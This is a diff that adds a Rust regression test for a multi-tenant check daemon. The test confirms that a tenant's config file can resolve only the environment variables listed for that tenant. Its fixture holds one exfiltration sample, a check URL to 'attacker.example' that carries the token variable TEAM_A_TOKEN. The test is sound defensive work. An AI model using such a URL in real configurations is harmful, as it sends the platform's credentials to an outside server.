@@ -842,3 +842,61 @@ fn a_tenants_files_name_files_under_its_own_directory_only() {
     ]);
     assert!(config.host("team-a/api").is_some());
 }
+
+/// Found by the audit of issue 21: a tenant's file could read any of the daemon's environment
+/// variables (its token, a database password) with `${VAR}` and send it to a server of its
+/// own in a check URL. Only what `tenants.<name>.env` lists is looked up now.
+#[test]
+fn a_tenants_files_read_only_the_environment_variables_listed_for_it() {
+    let main = "tenants:\n  team-a: { config: team-a/checks.yaml, env: [TEAM_A_VIEWER] }\n";
+    let leaking =
+        "hosts:\n  - { label: api, url: \"http://attacker.example/?t=${TEAM_A_TOKEN}\" }\n";
+    let message = error(&[("main.yaml", main), ("team-a/checks.yaml", leaking)]);
+    assert!(message.contains("checks.yaml:2:"), "{message}");
+    assert!(
+        message.contains(
+            "tenant `team-a` may use only the environment variables listed in `tenants.team-a.env`"
+        ),
+        "{message}"
+    );
+    assert!(message.contains("TEAM_A_TOKEN is not one"), "{message}");
+    assert!(!message.contains("team-a-secret-token"), "{message}");
+
+    // A default is taken instead of the platform's value: nothing leaks, nothing fails.
+    let defaulted =
+        "hosts:\n  - { label: api, url: \"http://127.0.0.1:1/?t=${TEAM_A_TOKEN:-none}\" }\n";
+    let config = load(&[("main.yaml", main), ("team-a/checks.yaml", defaulted)]);
+    let Check::Http(http) = &config.hosts()[0].check else {
+        panic!("an HTTP check");
+    };
+    assert_eq!(http.url.as_str(), "http://127.0.0.1:1/?t=none");
+
+    // A listed variable is looked up as anywhere else.
+    let listed = "hosts:\n  - { label: api, url: \"http://127.0.0.1:1/?t=${TEAM_A_VIEWER}\" }\n";
+    let config = load(&[("main.yaml", main), ("team-a/checks.yaml", listed)]);
+    let Check::Http(http) = &config.hosts()[0].check else {
+        panic!("an HTTP check");
+    };
+    assert_eq!(
+        http.url.as_str(),
+        "http://127.0.0.1:1/?t=team-a-viewer-token"
+    );
+
+    // The main file's own variables are its own business.
+    let in_main = "server: { token: \"${TEAM_A_TOKEN}\" }\ntenants:\n  team-a: { config: team-a/checks.yaml }\n";
+    load(&[
+        ("main.yaml", in_main),
+        ("team-a/checks.yaml", "hosts: []\n"),
+    ]);
+
+    let bad_name = "tenants:\n  team-a: { config: team-a/checks.yaml, env: [\"1BAD\"] }\n";
+    let message = error(&[
+        ("main.yaml", bad_name),
+        ("team-a/checks.yaml", "hosts: []\n"),
+    ]);
+    assert!(message.contains("tenants.team-a.env"), "{message}");
+    assert!(
+        message.contains("not an environment variable name"),
+        "{message}"
+    );
+}
